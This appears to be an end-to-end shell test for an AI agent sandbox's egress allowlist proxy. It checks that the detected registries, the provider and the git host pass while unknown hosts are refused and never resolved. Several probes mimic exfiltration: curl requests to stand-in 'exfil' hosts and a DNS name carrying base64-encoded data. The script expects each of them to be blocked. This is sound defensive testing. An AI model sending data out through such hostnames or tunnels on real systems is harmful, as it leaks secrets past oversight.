# SPDX-License-Identifier: MIT
# The egress rules of a first provisioning (issue 29): policy allowlist with allow lines for
# what the projects use, each with its reason. An unknown host is refused and its name never
# reaches DNS (the fake resolver logs every query); the provider, a detected registry and the
# remote's git host pass. An existing file keeps its policy, and provisioning says where to
# switch; under the blocklist the same kind of probe does reach the resolver (the control
# that the log would have seen it).
. "$E2E_LIB"
. "$(dirname "$0")/common-prov.sh"
INET_DNS_LOG=$E2E_SCRATCH/dns.log
. "$(dirname "$0")/lib-net.sh"

CONF=/etc/ocsb/egress.conf
AG=(as_user "$AGENT")
PX=(-x http://127.0.0.1:3128)
via_proxy() { "${AG[@]}" curl -sS --max-time 5 "${PX[@]}" "$@"; }
status_via_proxy() { "${AG[@]}" curl -s -o /dev/null -w '%{http_code}' --max-time 5 "${PX[@]}" "$@"; }
no_note() { # provisioning succeeds and prints no note on the policy
	local out
	out=$(provision 2>&1) || { echo "$out"; return 1; }
	! grep -q 'egress policy blocklist' <<<"$out"
}
connect_status() { # HOST: the proxy's answer to CONNECT HOST:443
	"${AG[@]}" curl -s -o /dev/null -w '%{http_connect}' --max-time 5 "${PX[@]}" "https://$1/"
	true
}
leak_probe() { status_via_proxy "http://leak-$$.example.net/"; true; }
dns_ask() { # root asks the fake resolver for NAME (an A query), as any program would
	python3 -c 'import socket, struct, sys
q = struct.pack(">HHHHHH", 0x1234, 0x100, 1, 0, 0, 0)
q += b"".join(bytes([len(l)]) + l.encode() for l in sys.argv[1].split(".")) + b"\0"
q += struct.pack(">HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
s.sendto(q, ("198.18.0.53", 53)); s.recv(512)' "$1"
}

make_project
# Manifests by name: npm's lock file counts; a link and a directory named like one do not.
as_owner touch "$PROJECT/package-lock.json"
as_owner ln -s /nonexistent "$PROJECT/Cargo.toml"
as_owner mkdir "$PROJECT/go.mod" "$PROJECT/debian"
as_owner git -C "$PROJECT" remote add origin https://code.example.org/alice/shop.git
as_owner git -C "$PROJECT" remote add odd 'git@no dots here:x'
fake_internet_up && pass "fake internet up" || fail "fake internet up"
printf '198.18.1.10\tregistry.npmjs.org\n198.18.1.12\tapi.anthropic.com\n198.18.1.13\tcode.example.org\n' \
	>>/etc/hosts
check "no egress rules yet" test ! -e "$CONF"

check_output "--dry-run: the allowlist would be written" \
	"write $CONF \(policy allowlist: [0-9]+ allow lines" provision --dry-run
check "--dry-run wrote nothing" test ! -e "$CONF"
check_output "provisioning" '^ocsb-provision: [1-9]' provision
check_output "the first file says policy allowlist" '^policy allowlist$' cat "$CONF"
check_output "npm's registry, with its reason" \
	'^allow registry\.npmjs\.org +# npm: package-lock\.json in ~/code/shop$' cat "$CONF"
check_output "the remote's git host, with its reason" \
	'^allow code\.example\.org +# git: remote origin of ~/code/shop$' cat "$CONF"
check_output "the built-in providers, saying so" \
	'^allow api\.anthropic\.com +# anthropic$' cat "$CONF"
check_output "OpenCode's endpoints" '^allow models\.opencode\.ai models\.dev +# OpenCode' cat "$CONF"
check_fails "a link named Cargo.toml names no registry" grep -q 'crates\.io' "$CONF"
check_fails "a directory named go.mod names none" grep -q 'golang' "$CONF"
check_fails "debian/ without control names none" grep -q 'deb\.debian\.org' "$CONF"
check_fails "a remote whose host has no dot is left out" grep -q 'remote odd' "$CONF"
check_output "the file is root's, 0644" '^644 root$' stat -c '%a %U' "$CONF"
check "an allowlist prints no note on switching" no_note
sum=$(sha256sum <"$CONF")

# --- the proxy under the written rules
check "positive control: root asks the fake resolver" dns_ask control-probe.example
check "positive control: the query is in the log" inet_dns_asked control-probe.example
check_output "agent: the detected registry passes" '^WEB allowed\.test$' via_proxy http://registry.npmjs.org/
check_output "agent: the provider passes" '^WEB other\.test$' via_proxy http://api.anthropic.com/
check_output "agent: the remote's git host passes" '^WEB internal\.test$' via_proxy http://code.example.org/
check_output "agent: a host in /etc/hosts but not allowed is refused" '^403$' status_via_proxy http://other.test/
check_output "agent: an unknown host is refused" '^403$' status_via_proxy "http://exfil-$$.example.net/"
check_output "agent: a name carrying data is refused" '^403$' \
	status_via_proxy "http://c2VjcmV0.x-dns-exfil-$$.example.net/"
check_output "agent: CONNECT to the registry passes (control)" '^200$' connect_status registry.npmjs.org
check_output "agent: CONNECT to an unknown host is refused" '^403$' connect_status tunnel-$$.example.net
check_fails "no DNS query for the unknown host" inet_dns_asked "exfil-$$.example.net"
check_fails "none for the name carrying data" inet_dns_asked "c2VjcmV0.x-dns-exfil-$$.example.net"
check_fails "none for the CONNECT target" inet_dns_asked "tunnel-$$.example.net"
check_output "ocsb egress logs names the policy" "DENY .*exfil-$$\.example\.net.*policy" \
	"$OCSB_BUILD/ocsb" egress logs

# --- an existing file is never rewritten; under the blocklist provisioning says how to switch
sed -i 's/^policy allowlist$/policy blocklist/' "$CONF"
sum_b=$(sha256sum <"$CONF")
check_output "existing blocklist: one line says where to switch" \
	"^ocsb-provision: egress policy blocklist .*set \`policy allowlist\` in $CONF at line [0-9]+ " provision
check_output "the owner's edit is kept" "^$sum_b\$" bash -c "sha256sum <$CONF"
check_output "blocklist: an unlisted host passes" '^WEB other\.test$' via_proxy http://other.test/
check "blocklist: an unknown name is asked for (control)" leak_probe
check "blocklist: the query for it reaches the resolver (the log sees squid's lookups)" \
	inet_dns_asked "leak-$$.example.net"
sed -i 's/^policy blocklist$/policy allowlist/' "$CONF"
check_output "back to the allowlist" '^ocsb-provision: ' provision
check_output "the file is as first written" "^$sum\$" bash -c "sha256sum <$CONF"
check_output "agent: the unknown host is refused again" '^403$' status_via_proxy "http://again-$$.example.net/"
check_fails "and not looked up" inet_dns_asked "again-$$.example.net"
